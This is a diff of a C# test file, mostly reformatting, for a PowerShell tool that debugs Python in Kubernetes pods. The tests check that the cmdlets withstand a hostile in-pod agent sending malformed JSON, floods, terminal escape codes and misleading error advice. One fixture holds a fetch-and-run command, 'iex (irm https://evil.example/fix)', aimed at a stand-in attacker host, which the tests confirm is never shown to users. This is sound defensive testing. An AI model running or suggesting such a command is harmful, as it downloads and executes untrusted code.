@@ -5,7 +5,6 @@ using System.IO;
 using System.Linq;
 using System.Management.Automation;
 using System.Management.Automation.Runspaces;
-using System.Net;
 using System.Reflection;
 using System.Text;
 using System.Text.Json.Nodes;
@@ -57,11 +56,11 @@ public sealed class HostileAgentTests : IDisposable
         _runspace.SessionStateProxy.Path.SetLocation(_folder.FullName);
         _runspace.SessionStateProxy.SetVariable("s", new PodDebugSession
         {
-            Namespace = "shop", PodName = "web-0", ContainerName = "app", DebugContainer = "pydebug-abcde", PodUid = "uid-1",
-            Python = "/usr/bin/python3", TargetContainerId = "containerd://aaaa", IsVerified = true,
+            Namespace = "shop", PodName = "web-0", ContainerName = "app", DebugContainer = "pydebug-abcde",
+            PodUid = "uid-1", Python = "/usr/bin/python3", TargetContainerId = "containerd://aaaa", IsVerified = true,
             Connection = new ConnectionSettings
             {
-                Server = _cluster.Address, AccessToken = new NetworkCredential("", "token").SecurePassword,
+                Server = _cluster.Address, AccessToken = new System.Net.NetworkCredential("", "token").SecurePassword,
             },
         });
         FakePayload.WritePySpy();
@@ -70,7 +69,8 @@ public sealed class HostileAgentTests : IDisposable
 
     public static TheoryData<string> Cmdlets => new(
         "Get-PyProcess", "Get-PyStack", "Get-PyTask", "Get-PyHeap", "Measure-PyTime -DurationSeconds 1",
-        "Copy-PodFile -Path /x", "Copy-PodFile -Path /x -Recurse", "Invoke-PySpy", "Invoke-PySpy -Record -DurationSeconds 1", "Invoke-PySpy -Top -DurationSeconds 1",
+        "Copy-PodFile -Path /x", "Copy-PodFile -Path /x -Recurse", "Invoke-PySpy",
+        "Invoke-PySpy -Record -DurationSeconds 1", "Invoke-PySpy -Top -DurationSeconds 1",
         "Get-MemrayReport -DurationSeconds 1 -Confirm:$false",
         "Invoke-Bpftrace -Program 'BEGIN { @ = 1; }' -DurationSeconds 1", "Stop-PodDebug");
 
@@ -79,26 +79,27 @@ public sealed class HostileAgentTests : IDisposable
     {
         string[] kinds =
         [
-            "process", "stack", "task", "time", "heap", "tool", "file", "fileEnd", "tree", "left", "end", "memray", "bpftrace", "bpftraceCost", "bpftraceFrames",
-            "bpftraceEnd", "stopped", "x",
+            "process", "stack", "task", "time", "heap", "tool", "file", "fileEnd", "tree", "left", "end", "memray",
+            "bpftrace", "bpftraceCost", "bpftraceFrames", "bpftraceEnd", "stopped", "x",
         ];
-        yield return "";
-        yield return "7";
-        yield return "[]";
-        yield return "{";
-        yield return "{}";
-        yield return "{\"kind\":null}";
+        foreach (string odd in new[] { "", "7", "[]", "{", "{}", "{\"kind\":null}" })
+        {
+            yield return odd;
+        }
+
         yield return new string('[', 5000);
         yield return "{\"\\ud800\":{\"\\udc00\":1},\"kind\":\"\\ud800\"}";
         foreach (string kind in kinds)
         {
-            foreach (string value in new[] { "null", "7", "-1", "1e999", "99999999999999999999", "\"x\"", "[]", "[[[[]]]]", "{}", "true", "\"\\ud800\\u001b[2J\"" })
+            foreach (string value in new[] { "null", "7", "-1", "1e999", "99999999999999999999", "\"x\"", "[]",
+                "[[[[]]]]", "{}", "true", "\"\\ud800\\u001b[2J\"" })
             {
                 IEnumerable<string> fields = new[]
                 {
-                    "pid", "threads", "thread", "frames", "stacks", "tasks", "size", "sha256", "samples", "report", "totals", "version",
-                    "words", "cost", "messages", "messagesRepeated", "exit", "started", "cpu", "command", "name", "seconds", "machine", "container",
-                    "waits", "entries", "memory", "types", "parts", "path", "files", "bytes", "offset", "inode", "mtime", "why",
+                    "pid", "threads", "thread", "frames", "stacks", "tasks", "size", "sha256", "samples", "report",
+                    "totals", "version", "words", "cost", "messages", "messagesRepeated", "exit", "started", "cpu",
+                    "command", "name", "seconds", "machine", "container", "waits", "entries", "memory", "types",
+                    "parts", "path", "files", "bytes", "offset", "inode", "mtime", "why",
                 }.Select(f => $"\"{f}\":{value}");
                 yield return $"{{\"kind\":\"{kind}\",{string.Join(',', fields)}}}";
             }
@@ -118,7 +119,8 @@ public sealed class HostileAgentTests : IDisposable
                     await exec.SendFrameAsync('R', Encoding.UTF8.GetBytes(result));
                 }
             });
-            Assert.DoesNotContain(errors, e => e.FullyQualifiedErrorId.StartsWith("InternalError", StringComparison.Ordinal));
+            Assert.DoesNotContain(
+                errors, e => e.FullyQualifiedErrorId.StartsWith("InternalError", StringComparison.Ordinal));
         }
     }
 
@@ -128,24 +130,27 @@ public sealed class HostileAgentTests : IDisposable
     {
         (List<ErrorRecord> errors, List<string> told) = await CheckAsync(cmdlet, async exec =>
         {
-            foreach (string cause in new[] { "ToolUnavailable", "ToolOutputInvalid", "DiskFull", "DestinationInvalid", "ParameterInvalid", "LimitExceeded", "SourceInvalid", "Nobody" })
+            foreach (string cause in new[] { "ToolUnavailable", "ToolOutputInvalid", "DiskFull", "DestinationInvalid",
+                "ParameterInvalid", "LimitExceeded", "SourceInvalid", "Nobody" })
             {
                 await exec.SendFrameAsync('E', new JsonObject
                 {
                     ["cause"] = cause, ["pid"] = 1, ["message"] = "py-spy is \u001b[2Jblocked",
-                    ["detail"] = new JsonObject { ["advice"] = "Run: iex (irm https://evil.example/fix)", ["tool"] = "memray" },
+                    ["detail"] = new JsonObject { ["advice"] = "irm https://evil.example/fix", ["tool"] = "memray" },
                 });
             }
 
             await exec.SendFrameAsync('W', new JsonObject { ["message"] = "careful\u001b]0;x\u0007\r\n", ["pid"] = 1 });
-            await exec.SendFrameAsync('P', new JsonObject { ["text"] = "\u001b[2J", ["done"] = 5, ["total"] = 0.0000001 });
+            await exec.SendFrameAsync(
+                'P', new JsonObject { ["text"] = "\u001b[2J", ["done"] = 5, ["total"] = 0.0000001 });
             await exec.SendFrameAsync('P', Encoding.UTF8.GetBytes("[]"));
             await exec.SendFrameAsync('E', Encoding.UTF8.GetBytes("7"));
             await exec.SendFrameAsync('W', Encoding.UTF8.GetBytes(""));
         });
 
         Assert.True(errors.Count >= 8, $"{errors.Count} errors");
-        Assert.All(errors, e => Assert.DoesNotContain("evil.example", $"{e} {e.ErrorDetails?.RecommendedAction} {e.Exception.Message}"));
+        Assert.All(errors, e => Assert.DoesNotContain(
+            "evil.example", $"{e} {e.ErrorDetails?.RecommendedAction} {e.Exception.Message}"));
         Assert.Contains(told, t => t.Contains("careful"));
     }
 
@@ -163,8 +168,8 @@ public sealed class HostileAgentTests : IDisposable
 
     [Fact]
     public async Task A_result_of_more_parts_than_memory_has_room_for_is_stopped()
-        => await StopsAsync("Get-PyStack", exec => exec.SendFrameAsync(
-            'R', Encoding.UTF8.GetBytes("{\"kind\":\"stack\",\"threads\":[" + string.Concat(Enumerable.Repeat("{},", 5_000_000)) + "{}]}")));
+        => await StopsAsync("Get-PyStack", exec => exec.SendFrameAsync('R', Encoding.UTF8.GetBytes(
+            "{\"kind\":\"stack\",\"threads\":[" + string.Concat(Enumerable.Repeat("{},", 5_000_000)) + "{}]}")));
 
     [Theory]
     [InlineData("Get-PyStack")]
@@ -198,7 +203,8 @@ public sealed class HostileAgentTests : IDisposable
             await exec.SendFrameAsync('F', "ok"u8.ToArray());
             await exec.SendFrameAsync('R', new JsonObject
             {
-                ["kind"] = "fileEnd", ["size"] = 2, ["sha256"] = "2689367b205c16ce32ed4200942b8b8b1e262dfc70d9bc9fbc77c49699a4f1df",
+                ["kind"] = "fileEnd", ["size"] = 2,
+                ["sha256"] = "2689367b205c16ce32ed4200942b8b8b1e262dfc70d9bc9fbc77c49699a4f1df",
             });
         });
         Assert.Empty(errors);
@@ -234,16 +240,16 @@ public sealed class HostileAgentTests : IDisposable
     [Fact]
     public async Task A_capture_is_counted_against_what_was_announced()
     {
-        await StopsAsync("Get-MemrayReport -DurationSeconds 1 -KeepCapture -Confirm:$false -ProcessId 1", FloodAsync, skipsProcesses: true);
-        await StopsAsync(
-            "Get-MemrayReport -DurationSeconds 1 -KeepCapture -Confirm:$false -ProcessId 1",
-            exec => exec.SendFrameAsync('R', new JsonObject { ["kind"] = "file", ["size"] = 1L << 40 }),
+        const string Ask = "Get-MemrayReport -DurationSeconds 1 -KeepCapture -Confirm:$false -ProcessId 1";
+        await StopsAsync(Ask, FloodAsync, skipsProcesses: true);
+        await StopsAsync(Ask, e => e.SendFrameAsync('R', new JsonObject { ["kind"] = "file", ["size"] = 1L << 40 }),
             skipsProcesses: true);
     }
 
     [Fact]
     public async Task Output_of_a_program_is_counted_on_this_side()
-        => await StopsAsync("Invoke-Bpftrace -Program 'BEGIN { @ = 1; }' -DurationSeconds 1 -MaximumBytes 100000", FloodAsync);
+        => await StopsAsync(
+            "Invoke-Bpftrace -Program 'BEGIN { @ = 1; }' -DurationSeconds 1 -MaximumBytes 100000", FloodAsync);
 
     [Fact]
     public async Task One_that_asks_again_and_again_for_what_was_sent_is_stopped()
@@ -328,7 +334,8 @@ public sealed class HostileAgentTests : IDisposable
             await exec.HelloAsync();
             if (skipsProcesses && question["op"]!.ToString() == "processes")
             {
-                await exec.SendFrameAsync('R', new JsonObject { ["kind"] = "process", ["pid"] = 1, ["version"] = "3.13.5", ["implementation"] = "CPython" });
+                await exec.SendFrameAsync('R', new JsonObject { ["kind"] = "process", ["pid"] = 1,
+                    ["version"] = "3.13.5", ["implementation"] = "CPython" });
                 await exec.FinishAsync();
                 return;
             }
@@ -349,7 +356,8 @@ public sealed class HostileAgentTests : IDisposable
         using PowerShell shell = PowerShell.Create(_runspace);
         Stopwatch watch = Stopwatch.StartNew();
         IAsyncResult running = shell.AddScript($"$s | {cmdlet} -ErrorAction Continue").BeginInvoke();
-        Assert.True(await Task.Run(() => running.AsyncWaitHandle.WaitOne(TimeSpan.FromSeconds(60))), $"{cmdlet} did not end");
+        Assert.True(
+            await Task.Run(() => running.AsyncWaitHandle.WaitOne(TimeSpan.FromSeconds(60))), $"{cmdlet} did not end");
         Assert.True(watch.Elapsed < s_seconds * 2, $"{cmdlet} took {watch.Elapsed}");
         List<PSObject> output = [.. shell.EndInvoke(running)];
         List<ErrorRecord> errors = [.. shell.Streams.Error];
@@ -361,7 +369,8 @@ public sealed class HostileAgentTests : IDisposable
 
         List<string> told =
         [
-            .. shell.Streams.Warning.Select(w => w.Message), .. shell.Streams.Progress.Select(p => $"{p.StatusDescription} {p.CurrentOperation}"),
+            .. shell.Streams.Warning.Select(w => w.Message), .. shell.Streams.Progress.Select(
+                p => $"{p.StatusDescription} {p.CurrentOperation}"),
             .. errors.Select(e => $"{e} {e.ErrorDetails?.Message}"), .. output.Select(o => o.ToString()),
         ];
         Assert.All(told, t => Assert.DoesNotContain(t, c => char.IsControl(c) && c is not '\n'));
